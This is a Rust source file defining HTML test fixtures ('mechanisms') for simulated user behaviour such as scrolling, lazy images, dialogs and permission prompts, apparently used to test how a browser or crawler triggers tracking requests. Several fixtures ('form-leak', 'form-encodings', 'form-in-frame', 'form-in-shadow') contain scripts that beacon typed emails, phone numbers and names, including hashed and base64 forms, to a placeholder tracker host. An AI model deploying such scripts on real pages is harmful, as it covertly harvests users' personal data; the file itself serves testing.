//! Mechanisms: persons.

use super::page;
use crate::web::Mechanism;

pub(super) fn all() -> Vec<Mechanism> {
    let p = |name, html, expects: &[&'static str]| page("person", name, html, expects);
    vec![
        p(
            "lazy-image",
            "<div style='height:5000px'>x</div><img loading=lazy width=10 height=10 src='{T}/lazy.gif'>",
            &["lazy.gif"],
        ),
        p(
            "on-scroll",
            "<div style='height:5000px'>x</div><script>let d=0;addEventListener('scroll',()=>{if(!d++)navigator.sendBeacon('{T}/scrolled.none','x')})</script>",
            &["scrolled.none"],
        ),
        p(
            "intersection",
            "<div style='height:4000px'>x</div><div id=e>e</div><script>new IntersectionObserver((l,o)=>{if(l[0].isIntersecting){o.disconnect();fetch('{T}/seen.json')}}).observe(e)</script>",
            &["seen.json"],
        ),
        p("dialogs", "<script>alert(1);if(confirm('?'))fetch('{T}/yes.json');prompt('x');</script>", &["yes.json"]),
        p(
            "form-leak",
            "<form><input type=email name=email id=e></form><script>e.addEventListener('change',()=>fetch('{T}/leak.none?e='+encodeURIComponent(e.value)))</script>",
            &["leak.none"],
        ),
        p("download", "<a id=d href='{S}/file.bin' download>d</a><img src='{T}/d.gif'>", &["d.gif"]),
        p(
            "form-encodings",
            "<form><input type=email name=email id=e><input type=tel name=tel id=t><input name=fullname id=n></form><script>const s=(k,v)=>navigator.sendBeacon('{T}/enc.none?k='+k,v);for(const f of [e,t,n])f.addEventListener('blur',async()=>{const v=f.value,b=new TextEncoder().encode(v.trim().toLowerCase());s(f.name+'-plain',v);s(f.name+'-url',encodeURIComponent(v));s(f.name+'-b64',btoa(unescape(encodeURIComponent(v))));for(const a of ['SHA-1','SHA-256'])s(f.name+'-'+a,[...new Uint8Array(await crypto.subtle.digest(a,b))].map(x=>x.toString(16).padStart(2,'0')).join(''))})</script>",
            &["enc.none"],
        ),
        p(
            "form-keystrokes",
            "<input id=q name=q type=search><script>let n=0;q.addEventListener('input',()=>{if(!n++)fetch('{T}/key.json?q='+encodeURIComponent(q.value))})</script>",
            &[],
        ),
        p("form-in-frame", "<iframe src='{F}/f.html' width=400 height=200></iframe>", &["f.html"]).file(
            "f.html",
            "<form><input type=email name=email onchange=\"navigator.sendBeacon('{T}/ff.none',this.value)\"></form>",
        ),
        p(
            "form-in-shadow",
            "<div id=h></div><script>h.attachShadow({mode:'open'}).innerHTML=`<form><input type=email name=email onchange=\"navigator.sendBeacon('{T}/fs.none',this.value)\"></form>`</script>",
            &[],
        ),
        p(
            "scroll-container",
            "<div id=c style='height:300px;overflow:auto'><div style='height:3000px'>x</div><img loading=lazy src='{T}/deep.gif'></div>",
            &[],
        ),
        p(
            "infinite-scroll",
            "<div id=c style='height:2000px'>x</div><div id=e>e</div><script>let n=0;new IntersectionObserver(l=>{if(l[0].isIntersecting&&n<3){n++;fetch('{T}/more.json?n='+n).then(()=>{c.style.height=2000*(n+1)+'px'})}}).observe(e)</script>",
            &["more.json"],
        ),
        p(
            "scroll-depth",
            "<div style='height:6000px'>x</div><script>const d=new Set;addEventListener('scroll',()=>{const p=Math.round((scrollY+innerHeight)/document.documentElement.scrollHeight*4)*25;if(!d.has(p)){d.add(p);navigator.sendBeacon('{T}/depth.none','x')}})</script>",
            &["depth.none"],
        ),
        p(
            "mouse-moves",
            "<script>let n=0;addEventListener('mousemove',()=>{if(!n++)fetch('{T}/mouse.json')});addEventListener('pointerdown',()=>fetch('{T}/down.json'))</script><p>x",
            &[],
        ),
        p(
            "lazy-many",
            "<script>for(let i=0;i<15;i++)document.write(`<div style='height:800px'>x</div><img loading=lazy width=9 height=9 src='{T}/lz${i}.gif'>`)</script>",
            &["lz0.gif", "lz14.gif"],
        ),
        p(
            "lazy-by-script",
            "<div style='height:4000px'></div><img id=i data-src='{T}/ds.gif' width=9 height=9><script>new IntersectionObserver((l,o)=>l.forEach(e=>{if(e.isIntersecting){e.target.src=e.target.dataset.src;o.disconnect()}})).observe(i)</script>",
            &["ds.gif"],
        ),
        p(
            "sticky-focus",
            "<script>addEventListener('focus',()=>fetch('{T}/focus.json'));document.hasFocus()&&fetch('{T}/has.json')</script><p>x",
            &["has.json"],
        ),
        p("dialog-in-frame", "<iframe src='{F}/d.html'></iframe>", &["d.html", "dif.json"])
            .file("d.html", "<script>setTimeout(()=>{try{confirm('x')}catch{}fetch('{T}/dif.json')},20)</script>"),
        p(
            "fullscreen-and-permissions",
            "<script>document.documentElement.requestFullscreen().catch(()=>{});navigator.permissions.query({name:'geolocation'}).then(s=>fetch('{T}/perm.json?'+s.state));Notification.requestPermission().then(p=>fetch('{U}/note.json?'+p))</script>",
            &["perm.json"],
        ),
    ]
}
